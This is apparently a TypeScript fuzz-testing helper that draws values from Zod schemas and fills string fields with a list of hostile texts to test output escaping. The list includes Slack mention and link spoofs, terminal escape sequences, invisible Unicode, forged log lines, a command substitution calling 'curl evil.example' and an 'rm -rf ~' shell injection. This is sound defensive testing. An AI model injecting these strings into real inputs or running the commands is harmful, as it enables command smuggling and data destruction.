import * as fc from "fast-check";
import type * as z from "zod";

/** Hostile texts: each piece controls a terminal, Slack, a mail, a shell or a spreadsheet. */
const PIECES = [
  "<!channel>",
  "<@U0123456>",
  "<https://evil.example|the runbook>",
  "&lt;!here&gt;",
  "`",
  "```",
  "*bold*",
  "\u001b[2J",
  "\u001b]8;;https://evil.example\u0007",
  "\u001b]0;title\u001b\\",
  "\u009b31m",
  "\u0085",
  "\r",
  "x\nFORGED line",
  "x\r\nFORGED line",
  "x\u2028FORGED line",
  "\u0000",
  "\u007f",
  "\u202e",
  "\u2066",
  "\u200f",
  "\u200b",
  "\ufeff",
  "\u{e0041}",
  "\ud800",
  "\udc00x",
  "$(curl evil.example)",
  "'; rm -rf ~; '",
  "::error::",
  '"',
  "\\",
  "字",
  "👩‍💻",
] as const;

export const hostileText = fc.oneof(
  {
    weight: 6,
    arbitrary: fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 6 }).map((some) => some.join("")),
  },
  { weight: 2, arbitrary: fc.string({ unit: "binary", minLength: 1, maxLength: 60 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...PIECES), fc.integer({ min: 500, max: 4_000 }))
      .map(([one, times]) => one.repeat(times)),
  },
);

/** Formats whose pattern accepts dates that do not exist. */
const FORMATS: Readonly<Record<string, string>> = { datetime: "2026-04-01T08:00:00Z", date: "2026-04-01" };

interface Definition {
  readonly type: string;
  readonly format?: string;
  readonly checks?: readonly {
    readonly _zod: { readonly def: { readonly check: string; readonly pattern?: RegExp } };
  }[];
  readonly element?: z.ZodType;
  readonly shape?: Readonly<Record<string, z.ZodType>>;
  readonly options?: readonly z.ZodType[];
  readonly innerType?: z.ZodType;
  readonly keyType?: z.ZodType;
  readonly valueType?: z.ZodType;
  readonly values?: readonly unknown[];
  readonly entries?: Readonly<Record<string, string>>;
  readonly in?: z.ZodType;
}

/** Values that a schema accepts, with hostile text wherever it accepts any text. What it refuses never reaches a reader. */
export const hostile = <Schema extends z.ZodType>(schema: Schema): fc.Arbitrary<z.output<Schema>> =>
  valuesOf(schema)
    .map((value) => schema.safeParse(value))
    .filter(({ success }) => success)
    .map(({ data }) => data as z.output<Schema>);

function valuesOf(schema: z.ZodType): fc.Arbitrary<unknown> {
  const def = schema.def as unknown as Definition;
  switch (def.type) {
    case "string":
      return textOf(def);
    case "number":
      return fc.constantFrom(0, 1, 2, 7, 100_000);
    case "boolean":
      return fc.boolean();
    case "literal":
      return fc.constantFrom(...(def.values ?? []));
    case "enum":
      return fc.constantFrom(...Object.values(def.entries ?? {}));
    case "array":
      return fc.array(valuesOf(def.element!), { maxLength: 3 });
    case "record":
      return fc.dictionary(valuesOf(def.keyType!) as fc.Arbitrary<string>, valuesOf(def.valueType!), { maxKeys: 3 });
    case "union":
      return fc.oneof(...(def.options ?? []).map(valuesOf));
    case "optional":
    case "nullable":
    case "default":
    case "readonly":
      return valuesOf(def.innerType!);
    case "object":
      return objectOf(def.shape ?? {});
    default:
      throw new Error(`No hostile values for z.${def.type}(): say here which there are.`);
  }
}

/** With and without each optional key. */
const objectOf = (shape: Readonly<Record<string, z.ZodType>>): fc.Arbitrary<unknown> =>
  fc.record(Object.fromEntries(Object.entries(shape).map(([key, one]) => [key, valuesOf(one)])), {
    requiredKeys: Object.entries(shape).flatMap(([key, one]) => (one.def.type === "optional" ? [] : [key])),
  });

function textOf({ format, checks = [] }: Definition): fc.Arbitrary<string> {
  const known = FORMATS[format ?? ""];
  if (known !== undefined) return fc.constant(known);
  const pattern = checks.find(({ _zod }) => _zod.def.pattern)?._zod.def.pattern;
  return pattern ? fc.stringMatching(pattern) : hostileText;
}
